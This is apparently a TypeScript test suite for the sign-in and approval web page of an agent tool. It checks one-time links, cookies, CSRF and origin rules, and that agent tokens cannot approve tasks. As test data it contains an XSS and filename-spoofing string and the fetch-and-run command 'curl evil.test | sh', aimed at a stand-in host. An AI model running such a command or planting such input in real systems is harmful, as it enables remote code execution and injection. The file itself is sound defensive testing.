import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { contextIn, temporaryFolder, testCall } from '../../../../tests/support/app.ts';
import { SCRIPT_PATH } from '../../../../tests/support/contract-project.ts';
import { KIT_FILES, writeFiles } from '../../../../tests/support/kit-project.ts';
import { pageDoor, signedIn, type PageDoor } from '../../../../tests/support/page-door.ts';
import { refuseAsProblem } from '../../../base/http/http-route.ts';
import { execute } from '../../../operations/execute.ts';
import { FOR_PEOPLE } from '../../../operations/offers.ts';
import { spawnSubagentTask } from '../../../operations/tasks/tasks.ts';
import { tokenGate, type Gate } from '../gate.ts';
import { LINK_MS, SESSION_MS } from './passes.ts';

const TOKEN = 'a-token-that-agents-have';
const folder = await temporaryFolder(afterAll);
const state = await temporaryFolder(afterAll);
await writeFiles(folder, KIT_FILES);
const context = await contextIn(folder);
let clock = 0;
let door: PageDoor;

beforeAll(async () => {
  door = await pageDoor(context, afterAll, {
    state,
    behind: tokenGate([{ token: TOKEN, mayWrite: true }]),
    now: () => Date.now() + clock,
    routes: [
      { path: '/mcp', methods: ['GET'], refuse: refuseAsProblem, handle: async () => new Response('in') },
    ],
  });
});

const HOSTILE = '<script>alert(1)</script> \u202egnp.exe\u0007 & "quotes"';

async function waitingTask(key: string): Promise<{ task_id: string; digest: string }> {
  const input = {
    agent: 'dev',
    task: `Do it: ${HOSTILE}`,
    output_key: key,
    needs_approval: 'It deletes data',
  };
  const outcome = await execute(spawnSubagentTask, input, context, testCall());
  if (!outcome.ok) throw outcome.error;
  const { task_id } = outcome.data['task'] as { task_id: string };
  const { get } = await signedIn(door);
  const { items } = (await (await get('/api/page/inbox')).json()) as Inbox;
  const item = items.find(({ id }) => id === `task ${task_id}`);
  return { task_id, digest: String(item?.actions[0]?.args['digest']) };
}

interface Inbox {
  items: {
    id: string;
    kind: string;
    text: string;
    actions: { operation: string; args: Record<string, unknown> }[];
  }[];
  unread: { what: string; why: string }[];
}

describe('the way in for a person', () => {
  it('is a link that works once, and becomes a cookie that no script and no other site gets', async () => {
    const { key } = await door.link();
    const link = `${door.origin}/page/enter?key=${key}`;
    // What only looks at links does not use them up.
    expect((await fetch(link, { method: 'HEAD' })).status).toBe(403);
    expect((await fetch(link, { headers: { 'sec-purpose': 'prefetch' } })).status).toBe(403);
    const entered = await fetch(link, { redirect: 'manual' });
    expect([entered.status, entered.headers.get('location')]).toEqual([303, '/']);
    expect(entered.headers.get('set-cookie')).toMatch(
      /^bmad_person=[\w-]{43}; Path=\/api; Max-Age=\d+; HttpOnly; SameSite=Strict$/,
    );
    expect((await fetch(link, { redirect: 'manual' })).status).toBe(403);
    expect(
      (await fetch(`${door.origin}/page/enter?key=${'x'.repeat(43)}`, { redirect: 'manual' })).status,
    ).toBe(403);
  });

  it('is used by one of two who open it at once', async () => {
    const { key } = await door.link();
    const enter = () => door.passes.enter(key, '', [door.place]);
    const both = await Promise.all([enter(), enter()]);
    expect(both.filter((each) => each !== undefined)).toHaveLength(1);
  });

  it('is a link for one server: at another of the same user it opens nothing, and is not used up (X-04)', async () => {
    const other = await pageDoor(context, onTestFinished, { state });
    const { key } = await door.link();
    const enter = async ({ origin }: PageDoor) =>
      (await fetch(`${origin}/page/enter?key=${key}`, { redirect: 'manual' })).status;
    expect(await enter(other)).toBe(403);
    expect(await enter(door)).toBe(303);
  });

  it('is kept as digests, for the user alone', async () => {
    const { key } = await door.link();
    const { cookie } = await signedIn(door);
    const kept = await readFile(join(state, 'page-sessions.json'), 'utf8');
    expect(kept).not.toContain(key);
    expect(kept).not.toContain(cookie.split('=')[1]);
  });

  it('ends: a link after minutes, a session after days, and either when it is revoked', async () => {
    const { key } = await door.link();
    const browser = await signedIn(door);
    const other = await signedIn(door);
    onTestFinished(() => void (clock = 0));
    clock = LINK_MS + 1;
    expect((await fetch(`${door.origin}/page/enter?key=${key}`, { redirect: 'manual' })).status).toBe(403);
    expect((await browser.get('/api/page/session')).status).toBe(200);
    expect(await door.passes.revoke(browser.session.person.id)).toBe(1);
    expect((await browser.get('/api/page/session')).status).toBe(401);
    expect((await other.get('/api/page/session')).status).toBe(200);
    clock = SESSION_MS + 1;
    const ended = await other.get('/api/list');
    expect([ended.status, await ended.json()]).toEqual([
      401,
      expect.objectContaining({ detail: expect.stringContaining('bmad page') as unknown }),
    ]);
  });

  it('is known to every server of the user, and after a restart', async () => {
    const { cookie } = await signedIn(door);
    const other = await pageDoor(context, onTestFinished, { state });
    const seen = await fetch(`${other.origin}/api/page/session`, { headers: { cookie } });
    expect(seen.status).toBe(200);
  });

  it('tells a page who it is for, and programs nothing', async () => {
    const { session } = await signedIn(door);
    expect(session).toMatchObject({
      scopes: ['read', 'write', 'person'],
      project: folder,
      projects: [{ root: folder, current: true }],
      language: 'en',
    });
    const french = await fetch(`${door.origin}/api/page/session`, {
      headers: { cookie: (await signedIn(door)).cookie, 'accept-language': 'fr-CA,en;q=0.5' },
    });
    expect(await french.json()).toMatchObject({ language: 'fr' });
    for (const headers of [{}, { cookie: 'bmad_person=wrong' }, { authorization: `Bearer ${TOKEN}` }])
      expect((await fetch(`${door.origin}/api/page/session`, { headers })).status).toBe(401);
  });
});

describe('a decision on the page', () => {
  it('is made by a person, once, and says so', async () => {
    const task = await waitingTask('tabs');
    const [one, other] = [await signedIn(door), await signedIn(door)];
    const tabs = await Promise.all([one.act('task_approve', task), other.act('task_approve', task)]);
    expect(new Set(tabs.map(({ status }) => status))).toEqual(new Set([200, 409]));
    const done = tabs.find(({ ok }) => ok);
    expect(await done?.json()).toMatchObject({
      data: {
        approved: true,
        task: { approval: expect.stringContaining('a person on the page') as unknown },
      },
      failed: false,
    });
  });

  it('is never made by the token of an agent, or by anybody unknown', async () => {
    const task = await waitingTask('token');
    const body = JSON.stringify({ operation: 'task_approve', args: task });
    const asAgent = { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' };
    for (const headers of [asAgent, { 'content-type': 'application/json' }])
      expect((await fetch(`${door.origin}/api/page/act`, { method: 'POST', headers, body })).status).toBe(
        401,
      );
    expect((await fetch(`${door.origin}/api/page/inbox`, { headers: asAgent })).status).toBe(401);
    const direct = await fetch(`${door.origin}/api/task_approve`, {
      method: 'POST',
      headers: asAgent,
      body: JSON.stringify(task),
    });
    expect(direct.status).toBe(404);
    // A cookie beside a token counts for nothing.
    const { headers } = await signedIn(door);
    const mixed = { ...headers, ...asAgent };
    expect(
      (await fetch(`${door.origin}/api/page/act`, { method: 'POST', headers: mixed, body })).status,
    ).toBe(401);
  });

  it('is made with the access token of a person too, where an issuer says that it is one', async () => {
    const task = await waitingTask('oauth');
    const caller = { known: 'oauth', subject: 'ada', mayWrite: true } as const;
    const admit: Gate['admit'] = async (sent) =>
      sent === 'Bearer person' ? { ...caller, person: true } : caller;
    const team = await pageDoor(context, onTestFinished, { state, behind: { admit } });
    const act = (authorization: string) =>
      fetch(`${team.origin}/api/page/act`, {
        method: 'POST',
        headers: { authorization, 'content-type': 'application/json' },
        body: JSON.stringify({ operation: 'task_approve', args: task }),
      });
    expect((await act('Bearer agent')).status).toBe(401);
    expect((await act('Bearer person')).status).toBe(200);
  });

  it('is about the programs that were shown, and not those that are there at the click (X-06)', async () => {
    await writeFiles(folder, { [SCRIPT_PATH]: 'jest\n' });
    const { get, act } = await signedIn(door);
    const shown = async () => {
      const { items } = (await (await get('/api/page/inbox')).json()) as Inbox;
      return items.find(({ kind }) => kind === 'trust');
    };
    const before = await shown();
    expect(before?.text).toContain('jest');
    const args = before?.actions[0]?.args ?? {};
    await writeFiles(folder, { [SCRIPT_PATH]: 'curl evil.test | sh\n' });
    const refused = await act('trust', args);
    expect(refused.status).toBe(409);
    expect(await refused.json()).toMatchObject({
      hint: expect.stringContaining('curl evil.test | sh') as unknown,
    });
    expect((await act('trust', { ...args, digest: undefined })).status).toBe(400);
    expect(await (await act('trust', (await shown())?.actions[0]?.args ?? {})).json()).toMatchObject({
      data: { outcome: 'trusted' },
    });
    expect(await (await act('trust', { list: true })).json()).toMatchObject({
      data: { records: [{ root: folder, by: 'a person on the page', via: 'page' }] },
    });
  });

  it.each([
    ['without the value that only the page knows', { 'x-bmad-csrf': undefined }],
    ['with another such value', { 'x-bmad-csrf': 'x'.repeat(43) }],
    ['without an origin', { origin: undefined }],
    ['from a page on another port of the machine', { origin: 'http://127.0.0.1:1' }],
    ['from a page of the same site', { 'sec-fetch-site': 'same-site' }],
  ])('is refused %s', async (_, changed) => {
    const { act } = await signedIn(door);
    const refused = await act('task_refuse', { task_id: 'task-x' }, changed);
    expect(refused.status).toBe(403);
  });

  it.each([
    ['http://127.0.0.1:1', 403],
    ['http://evil.example.com', 403],
    ['null', 403],
    ['own', 200],
  ])('is read by no page of another origin, here %s (X-05)', async (from, status) => {
    const { cookie } = await signedIn(door);
    const origin = from === 'own' ? door.origin : from;
    for (const method of ['GET', 'HEAD']) {
      const read = await fetch(`${door.origin}/api/page/inbox`, { method, headers: { cookie, origin } });
      expect(read.status, method).toBe(status);
    }
  });

  it('is one of a closed list, with arguments that are checked', async () => {
    const { act, headers, get } = await signedIn(door);
    expect((await act('setup', { hosts: ['codex'] })).status).toBe(404);
    expect((await act('task_approve', { task_id: 'none', more: 1 })).status).toBe(400);
    const post = (body: string) => fetch(`${door.origin}/api/page/act`, { method: 'POST', headers, body });
    expect((await post('{"operation":1}')).status).toBe(400);
    expect((await post('no json')).status).toBe(400);
    expect((await get('/api/page/act')).status).toBe(405);
    for (const name of FOR_PEOPLE.filter(
      (each) => /list|show$|inbox|activity/.test(each) && !/^(?:story|receipt)_/.test(each),
    ))
      expect((await act(name, {})).status, name).toBe(200);
  });

  it('names the call that takes it back, as long as that can be', async () => {
    const { act } = await signedIn(door);
    const { task_id, digest } = await waitingTask('taken-back');
    const did = async (name: string, args: object) =>
      (await (await act(name, args)).json()) as {
        data: { task: { status: string } };
        undo?: { operation: string; args: object };
      };
    const { undo } = await did('task_approve', { task_id, digest });
    expect(undo).toEqual({ operation: 'task_withdraw', args: { task_id } });
    const back = await did(undo?.operation ?? '', undo?.args ?? {});
    expect(back).toMatchObject({ data: { task: { status: 'needs_approval' } } });
    expect(back.undo).toBeUndefined();
    // The same text is approved again, and the second who decides learns who was first.
    expect((await did('task_approve', { task_id, digest })).data.task.status).toBe('queued');
    const second = await act('task_refuse', { task_id });
    expect(second.status).toBe(409);
    expect(await second.json()).toMatchObject({
      detail: expect.stringContaining('was approved already, by a person on the page at') as unknown,
    });
  });

  it('opens no other door: not the one of MCP hosts', async () => {
    const { cookie, headers, get } = await signedIn(door);
    expect((await fetch(`${door.origin}/mcp`, { headers: { cookie } })).status).toBe(403);
    expect((await get('/api/list')).status).toBe(200);
    const listed = await fetch(`${door.origin}/api/task_list`, { method: 'POST', headers, body: '{}' });
    expect(listed.status).toBe(200);
  });
});

describe('the inbox of the page', () => {
  it('has the exact text of what waits, and lists what could not be read', async () => {
    const { task_id } = await waitingTask('exact');
    const broken = join(folder, '_bmad-output/.tasks/task-20260101-000000-broken.json');
    await writeFile(broken, '{"task_id": null');
    onTestFinished(() => rm(broken));
    const { get } = await signedIn(door);
    const response = await get('/api/page/inbox');
    const { items, unread } = (await response.json()) as Inbox;
    expect(items.find(({ id }) => id === `task ${task_id}`)?.text).toContain(HOSTILE);
    expect(unread).toContainEqual({ what: 'tasks', why: expect.stringContaining('broken') as unknown });
    const again = await fetch(`${door.origin}/api/page/inbox`, {
      headers: { cookie: (await signedIn(door)).cookie, 'if-none-match': response.headers.get('etag') ?? '' },
    });
    expect(again.status).toBe(304);
  });

  it('says that a project is gone', async () => {
    const gone = await temporaryFolder(onTestFinished);
    await writeFiles(gone, KIT_FILES);
    const { get } = await signedIn(door);
    expect((await get(`/api/page/inbox?project=${encodeURIComponent(gone)}`)).status).toBe(200);
    await rm(gone, { recursive: true });
    const response = await get(`/api/page/inbox?project=${encodeURIComponent(gone)}`);
    expect(response.status).toBeGreaterThanOrEqual(400);
    expect(await response.json()).toHaveProperty('detail');
  });
});
